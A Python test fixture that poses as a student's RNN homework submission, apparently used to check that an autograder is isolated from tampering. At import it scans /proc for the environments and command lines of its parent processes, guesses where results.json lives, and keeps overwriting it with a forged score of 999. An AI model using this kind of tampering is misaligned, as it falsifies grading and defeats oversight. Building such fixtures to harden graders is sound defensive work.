"""Forging results: the submission writes a forged results.json (score 999) wherever it can guess,
at import, from a thread that rewrites it every 10 ms for as long as the worker lives, and at exit.

Its guesses: results.json in its working folder, $HOME, its own folder and the one above, and
/autograder/results/ if that exists and is writable; and, as perfect guesses, every path it can
find that names a results.json or follows --results, or is the value of RNN_GRADE_TEST_FORGE_TARGET,
in its own sys.argv and environment and in the command lines and environments of all its ancestor
processes (/proc/PID/cmdline and environ, which the confined worker cannot read); and the real
path itself, which the test writes into the copy it grades (@OUTSIDE_FOLDER@/results.json: with
the command line, the folder of --results). It writes only files named results.json or the paths
it found, never anything else.

The first call of rnn_step_forward prints "FORGE-ATTEMPT path: outcome" for every write made at import,
so the report shows the attack ran. rnn_step_backward is missing. The genuine report, and the only
one that may survive, is 7 / 10: forward 2, backward 0 ("not implemented"), clipping 4, hygiene 1.
"""

import atexit
import json
import os
import sys
import threading
import time
from pathlib import Path

import numpy as np

EXPECTED_SCORES = {"tiny_step_forward": 2, "tiny_step_backward": 0, "tiny_clip_grad_norm": 4, "tiny_size_one": 1}
EXPECTED_MESSAGES = {"tiny_step_backward": "not implemented: rnn_step_backward"}

TARGET_VARIABLE = "RNN_GRADE_TEST_FORGE_TARGET"
FORGED = json.dumps({
    "score": 999.0,
    "output": "FORGED-REPORT: written by the submission",
    "tests": [{"name": "everything", "score": 999.0, "max_score": 10.0, "status": "passed"}],
})
LOG: list[str] = []


def ancestors() -> list[int]:
    """This process's parent, grandparent, ... (from /proc)."""
    found, pid = [], os.getpid()
    while pid > 1 and len(found) < 20:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
        found.append(pid)
    return found


def strings(pid: int, name: str) -> list[str]:
    try:
        return [item.decode(errors="replace") for item in Path(f"/proc/{pid}/{name}").read_bytes().split(b"\0") if item]
    except OSError:
        return []


def perfect_guesses(arguments: list[str], environment: dict[str, str]) -> set[str]:
    found = set()
    for i, argument in enumerate(arguments):
        if argument == "--results" and i + 1 < len(arguments):
            found.add(arguments[i + 1])
        elif argument.startswith("--results="):
            found.add(argument.partition("=")[2])
        elif argument.endswith("results.json"):
            found.add(argument)
    for name, value in environment.items():
        if name == TARGET_VARIABLE or value.endswith("results.json"):
            found.add(value)
    return found


def guesses() -> set[str]:
    here = Path(__file__).resolve().parent
    folders = [os.getcwd(), os.environ.get("HOME", ""), str(here), str(here.parent)]
    if os.access("/autograder/results", os.W_OK):
        folders.append("/autograder/results")
    paths = {os.path.join(folder, "results.json") for folder in folders if folder and os.path.isdir(folder)}
    paths |= perfect_guesses(sys.argv, dict(os.environ)) | {"@OUTSIDE_FOLDER@/results.json"}
    for pid in ancestors():
        environment = dict(entry.partition("=")[::2] for entry in strings(pid, "environ"))
        paths |= perfect_guesses(strings(pid, "cmdline"), environment)
    return {path for path in paths if os.path.isabs(path)}


def forge(log: bool = False) -> None:
    for path in sorted(TARGETS):
        try:
            Path(path).write_text(FORGED)
            outcome = "written"
        except OSError as error:
            outcome = type(error).__name__
        if log:
            LOG.append(f"FORGE-ATTEMPT {path}: {outcome}")


def keep_forging() -> None:
    while True:
        forge()
        time.sleep(0.01)


TARGETS = guesses()
forge(log=True)
atexit.register(forge)
threading.Thread(target=keep_forging, daemon=True).start()


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if LOG:
        print("\n".join(LOG))
        LOG.clear()
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, (x, prev_h, Wx, Wh, next_h)


def clip_grad_norm(grads, max_norm):
    total_norm = float(np.sqrt(np.sum([np.sum(g * g) for g in grads.values()])))
    scale = max_norm / total_norm if total_norm > max_norm else 1.0
    return {name: g * scale for name, g in grads.items()}, total_norm
